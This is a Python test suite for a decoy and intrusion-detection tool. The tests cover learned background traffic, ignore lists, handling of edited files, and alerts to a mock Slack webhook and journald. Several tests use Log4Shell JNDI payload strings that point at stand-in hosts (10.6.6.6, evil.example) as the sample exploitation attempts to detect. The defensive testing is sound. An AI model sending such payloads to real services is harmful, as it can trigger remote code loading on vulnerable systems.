"""A quiet start, lists that people edit, and outlets for people, without privileges: test_decoy_learns.py CALTROP"""
import http.server
import json
import os
import pathlib
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import unittest

from decoy_case import CALTROP, free_port, until, until_alive

del sys.argv[1]


class Slack:
    """What a Slack webhook would have been told."""

    def __init__(self):
        told = self.told = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self):
                told.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
                self.send_response(200)
                self.send_header("Content-Length", "2")
                self.end_headers()
                self.wfile.write(b"ok")

            def log_message(self, *args):
                pass
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"slack+http://127.0.0.1:{self.server.server_address[1]}/services/T/B/x"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def titles(self):
        return [m["blocks"][0]["text"]["text"] for m in list(self.told)]

    def close(self):
        self.server.shutdown()
        self.server.server_close()


class Learns(unittest.TestCase):
    def setUp(self):
        self.dir = pathlib.Path(tempfile.mkdtemp(prefix="caltrop-learns-"))
        self.port, self.process, self.slack = free_port(), None, Slack()

    def tearDown(self):
        if self.process and self.process.poll() is None:
            self.process.kill()
            self.process.wait()
        self.slack.close()
        shutil.rmtree(self.dir)

    def background(self):
        path = self.dir / "decoy" / "background"
        return path.read_text() if path.exists() else ""

    def start(self, *options):
        with open(self.dir / "out", "wb") as out, open(self.dir / "err", "wb") as err:
            self.process = subprocess.Popen([CALTROP, "decoy", "--unprivileged", "--answer-port", str(self.port), "--data-dir", str(self.dir), "--json",
                                             "--to", self.slack.url, *options], stdout=out, stderr=err)
        until_alive(self.process, self.dir / "out", (self.dir / "err").read_text)

    def stop(self):
        self.process.send_signal(signal.SIGTERM)
        self.assertEqual(self.process.wait(120), 0)

    def alerts(self):
        return [e for e in map(json.loads, (self.dir / "out").read_text().splitlines()) if e["event"]["kind"] == "alert"]

    def contacts(self):
        path = self.dir / "decoy" / "contacts.ndjson"
        return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []

    def request(self, agent="monitor"):
        """A whole request and its answer, of which the decoy's record is older."""
        with socket.create_connection(("127.0.0.1", self.port)) as s:
            s.sendall(f"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: {agent}\r\nConnection: close\r\n\r\n".encode())
            while s.recv(65536):
                pass

    def test_a_quiet_start(self):
        self.start("--quiet-start", "1d")
        for _ in range(3):
            self.request()
        line = rf"^learned 127\.0\.0\.1 tcp/{self.port} count=\d+ first=\S+Z last=\S+Z$"
        until("the list", lambda: re.search(line, self.background(), re.M))
        self.stop()
        self.assertEqual(self.alerts(), [])
        self.assertTrue(self.contacts() and all(c["caltrop"]["background"] == "learned" for c in self.contacts()))
        # Known at the next start, when nothing is learned any more.
        self.start()
        self.request()
        self.stop()
        self.assertEqual(self.alerts(), [])
        # Rejected by a person: told.
        (self.dir / "decoy" / "background").write_text(self.background().replace("learned 127", "rejected 127"))
        self.start()
        self.request()
        until("an alert", self.alerts)
        until("Slack", self.slack.titles)
        self.stop()
        alert = self.alerts()[0]
        self.assertEqual((alert["source"]["ip"], alert["caltrop"]["news"], alert["caltrop"]["tcp"]["ports"]), ("127.0.0.1", "new", str(self.port)))
        self.assertTrue(self.slack.titles()[0].startswith(f"Connection from 127.0.0.1 to port {self.port}/tcp"))

    def test_a_worker_that_is_replaced_knows_what_was_learned(self):
        other = free_port()
        self.start("--quiet-start", "1d", "--answer-port", f"+{other}")
        self.request()
        until("the list", lambda: f"learned 127.0.0.1 tcp/{self.port} " in self.background())
        # The newest of its children: the teller was there before.
        os.kill(int(subprocess.run(["pgrep", "-n", "-P", str(self.process.pid)], stdout=subprocess.PIPE, text=True, check=True).stdout), signal.SIGKILL)
        alive = (self.dir / "out").read_text().count('"alive"')
        until("another", lambda: (self.dir / "out").read_text().count('"alive"') > alive)
        with socket.create_connection(("127.0.0.1", other)) as s:
            s.sendall(b"GET / HTTP/1.0\r\n\r\n")
        until("the list", lambda: f"learned 127.0.0.1 tcp/{other} " in self.background())
        self.stop()
        self.assertIn(f"learned 127.0.0.1 tcp/{self.port} ", self.background())
        self.assertEqual([a for a in self.alerts() if "source" in a], [])

    def test_a_payload_is_never_expected(self):
        self.start("--quiet-start", "1d")
        self.request()
        self.request("${jndi:ldap://10.6.6.6/a}")
        until("an alert", self.alerts)
        self.stop()
        self.assertEqual(self.alerts()[0]["caltrop"]["grade"], "exploit")
        self.assertNotIn("\nlearned ", self.background()) # what was learned of it is taken back

    def test_a_list_that_was_edited_meanwhile(self):
        """What a person writes is not written over."""
        self.start("--quiet-start", "1d")
        mine = "confirmed 10.0.0.7 udp/161 # mine\n"
        (self.dir / "decoy" / "background").write_text(mine)
        self.request()
        new = self.dir / "decoy" / "background.new"
        until("a list beside it", lambda: new.exists() and f"learned 127.0.0.1 tcp/{self.port}" in new.read_text())
        self.stop()
        self.assertEqual(self.background(), mine)
        self.assertIn("background was edited", (self.dir / "err").read_text())

    def test_an_ignore_list(self):
        ignore = self.dir / "ignore"
        ignore.write_text("# scanners\n127.0.0.0/8 tcp/%d until 2999-01-01 # ours\n192.0.2.1\n192.0.2.2 until 2001-01-01\n" % self.port)
        self.start("--ignore", str(ignore))
        self.request()
        self.request("${jndi:ldap://10.6.6.6/a}")
        until("an alert", self.alerts)
        self.stop()
        self.assertEqual([a["caltrop"]["grade"] for a in self.alerts()], ["exploit"]) # the payload alone
        self.assertIn("ignored", [c["caltrop"].get("background") for c in self.contacts()])
        review = (self.dir / "decoy" / "ignored").read_text()
        self.assertRegex(review, rf"(?m)^used    hits=\d+ last=\S+Z line=2  127\.0\.0\.0/8 tcp/{self.port} until 2999-01-01  # ours$")
        self.assertRegex(review, r"(?m)^unused  hits=0 line=3  192\.0\.2\.1$")
        self.assertRegex(review, r"(?m)^expired hits=0 line=4  192\.0\.2\.2 until 2001-01-01$")

    def test_files_that_are_wrong(self):
        """Exit status 2, as for every file that an option names."""
        ignore, background = self.dir / "ignore", self.dir / "decoy" / "background"
        ignore.write_text("127.0.0.1\n127.0.0.2 tcp/http\n")

        def refused(*options):
            got = subprocess.run([CALTROP, "decoy", "--unprivileged", "--data-dir", str(self.dir), *options, "--for", "1"],
                                 stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, check=False)
            self.assertEqual(got.returncode, 2, got.stdout)
            return got.stdout
        self.assertIn('line 2: "tcp/http" names no port', refused("--ignore", str(ignore)))
        self.assertEqual(refused("--ignore", "/nonexistent/list").count("line"), 0)
        self.assertIn("/nonexistent/token", refused("--token-file", "/nonexistent/token"))
        background.write_text("confirmed 10.0.0.1 tcp/80\nperhaps 10.0.0.2 tcp/80\n")
        self.assertIn("background: line 2: ", refused())

    def test_detect_tells_people_too(self):
        log, journal = self.dir / "access.log", self.dir / "journal"
        log.write_text('203.0.113.7 - - [10/Dec/2021:14:02:07 +0000] "GET / HTTP/1.1" 200 1 "-" "${jndi:ldap://evil.example/a}"\n')
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as s:
            s.bind(str(journal))
            got = subprocess.run([CALTROP, "detect", "--data-dir", str(self.dir), "--to", self.slack.url, "--to", f"journald:{journal}", str(log)],
                                 stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True, check=False)
            self.assertEqual((got.returncode, got.stderr), (1, ""))
            s.settimeout(60)
            entry = s.recv(1 << 20).decode()
        self.assertEqual(self.slack.titles(), ["Exploitation attempt (exploit) from 203.0.113.7"])
        self.assertIn("MESSAGE=Exploitation attempt (exploit) from 203.0.113.7\nPRIORITY=2\n", entry)
        self.assertIn("\nCALTROP_GRADE=exploit\n", entry)


if __name__ == "__main__":
    unittest.main(verbosity=2)
